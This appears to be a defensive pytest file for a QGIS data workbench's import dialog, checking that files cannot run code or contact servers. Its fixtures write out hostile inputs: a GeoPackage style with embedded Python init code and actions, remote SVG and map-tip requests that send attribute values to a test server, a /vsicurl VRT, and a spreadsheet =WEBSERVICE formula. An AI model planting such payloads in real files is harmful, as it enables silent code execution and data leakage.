"""Files that want to ask servers or run: through the dialog onto the map and drawn there, and nobody is asked."""

from __future__ import annotations

import sqlite3
from contextlib import closing
from pathlib import Path

import pytest
from at_desk import settle
from exports import ogr_file, sheet_rows, workbook
from hostile import Hostile

STYLE = """<!DOCTYPE qgis><qgis styleCategories="AllStyleCategories" version="3.40.6">
<renderer-v2 type="singleSymbol" symbollevels="0"><symbols><symbol name="0" type="marker" alpha="1"><layer class="SvgMarker" enabled="1" pass="0">
<Option type="Map"><Option name="name" type="QString" value="{url}/remote.svg"/><Option name="size" type="QString" value="9"/></Option>
<data_defined_properties><Option type="Map"><Option name="properties" type="Map"><Option name="name" type="Map">
<Option name="active" type="bool" value="true"/><Option name="expression" type="QString" value="'{url}/told?' || &quot;Titel&quot;"/>
<Option name="type" type="int" value="3"/></Option></Option></Option></data_defined_properties></layer></symbol></symbols></renderer-v2>
<editform/><editforminit>evil</editforminit><editforminitcodesource>2</editforminitcodesource>
<editforminitcode>open('{canary}', 'w')</editforminitcode>
<attributeactions><actionsetting type="1" id="{{e5}}" action="open('{canary}', 'w')" name="x" shortTitle="x" capture="0"/></attributeactions>
<mapTip enabled="1">&lt;img src="{url}/tip"&gt;</mapTip></qgis>"""


@pytest.fixture
def server():
    with Hostile() as found:
        yield found
        assert found.visits == [], "somebody was asked"


@pytest.fixture
def ask(office, qtbot):
    """Open the dialog on a file; a dialog is closed before the next."""
    from urban_data_workbench.ui.file_import import FileImport

    imports = FileImport(office.desk, office.loading, office.publishing, office.desk)

    def asked(path: Path):
        for dialog in office.dialogs("ImportDialog"):
            dialog.reject()
        imports.ask(path)
        settle(office, qtbot)
        return office.dialogs("ImportDialog")[0]

    return asked


def draw(layer) -> None:
    """Draw a layer as the map does, to the end."""
    from qgis.core import QgsMapRendererSequentialJob, QgsMapSettings
    from qgis.PyQt.QtCore import QSize

    settings = QgsMapSettings()
    settings.setLayers([layer])
    settings.setDestinationCrs(layer.crs())
    settings.setExtent(layer.extent().buffered(10))
    settings.setOutputSize(QSize(200, 200))
    job = QgsMapRendererSequentialJob(settings)
    job.start()
    job.waitForFinished()


def styled(folder: Path, url: str, canary: Path) -> Path:
    path = ogr_file(folder, "GPKG", "beitraege.gpkg")
    with closing(sqlite3.connect(path)) as file:
        file.execute("CREATE TABLE layer_styles (id INTEGER PRIMARY KEY, f_table_catalog TEXT, f_table_schema TEXT, f_table_name TEXT,"
                     " f_geometry_column TEXT, styleName TEXT, styleQML TEXT, styleSLD TEXT, useAsDefault BOOLEAN, description TEXT,"
                     " owner TEXT, ui TEXT, update_time DATETIME)")
        file.execute("INSERT INTO layer_styles VALUES (1, '', '', 'beitraege', 'geom', 'x', ?, '', 1, '', '', '', '2026-01-01')", (STYLE.format(url=url, canary=canary),))
        file.commit()
    return path


def test_the_trap_would_ask_where_styles_of_the_file_are_loaded(qgis_app, tmp_path):
    """The other tests of this file can fail."""
    from qgis.core import QgsVectorLayer

    with Hostile() as server:
        path = styled(tmp_path, server.url, tmp_path / "ran")
        layer = QgsVectorLayer(f"{path}|layername=beitraege", "x", "ogr")
        draw(layer)
        assert layer.actions().actions() and layer.mapTipTemplate() and server.visits


def test_a_geopackage_with_code_actions_and_remote_pictures_is_drawn_without_them(office, ask, server, qtbot, tmp_path):
    canary = tmp_path / "ran"
    dialog = ask(styled(tmp_path, server.url, canary))
    dialog.target.setFilePath(str(tmp_path / "copy.gpkg"))
    dialog.accept()
    settle(office, qtbot)
    layer = office.layers()["beitraege"]
    draw(layer)
    assert layer.featureCount() == 3 and not layer.actions().actions() and not layer.editFormConfig().initCode()
    assert not layer.mapTipTemplate() and server.url not in layer.renderer().dump() and not canary.exists()
    assert server.url.encode() not in (tmp_path / "copy.gpkg").read_bytes()


@pytest.mark.parametrize("ending", ["csv", "geojson", "xlsx", "gpkg"])
def test_a_vrt_in_the_dialog_is_refused_and_asks_nobody(ask, server, tmp_path, ending):
    path = tmp_path / f"a.{ending}"
    path.write_text(f'<OGRVRTDataSource><OGRVRTLayer name="a"><SrcDataSource>/vsicurl/{server.url}/a.csv</SrcDataSource>'
                    "</OGRVRTLayer></OGRVRTDataSource>", encoding="utf-8")
    dialog = ask(path)
    assert dialog.state.text().startswith("✗") and dialog.preview.model().rowCount() == 0


def test_addresses_typed_as_a_file_are_no_file(ask, server):
    for text in (f"/vsicurl/{server.url}/a.csv", f"{server.url}/a.csv", f"/vsizip//vsicurl/{server.url}/a.zip/a.gpkg"):
        assert ask(Path(text)).state.text().startswith("✗")


def test_markup_and_formulas_are_shown_as_text_and_asked_nowhere(ask, server, qtbot, tmp_path):
    cells = (f"&lt;img src='{server.url}/a.png'&gt;", f"=WEBSERVICE(\"{server.url}/x\")")
    dialog = ask(workbook(tmp_path / "a.xlsx", sheet_rows(("Titel", "Text"), cells)))
    model = dialog.preview.model()
    assert model.index(0, 0).data() == f"<img src='{server.url}/a.png'>" and model.index(0, 1).data().startswith("=WEBSERVICE")
    dialog.grab()
    qtbot.wait(50)
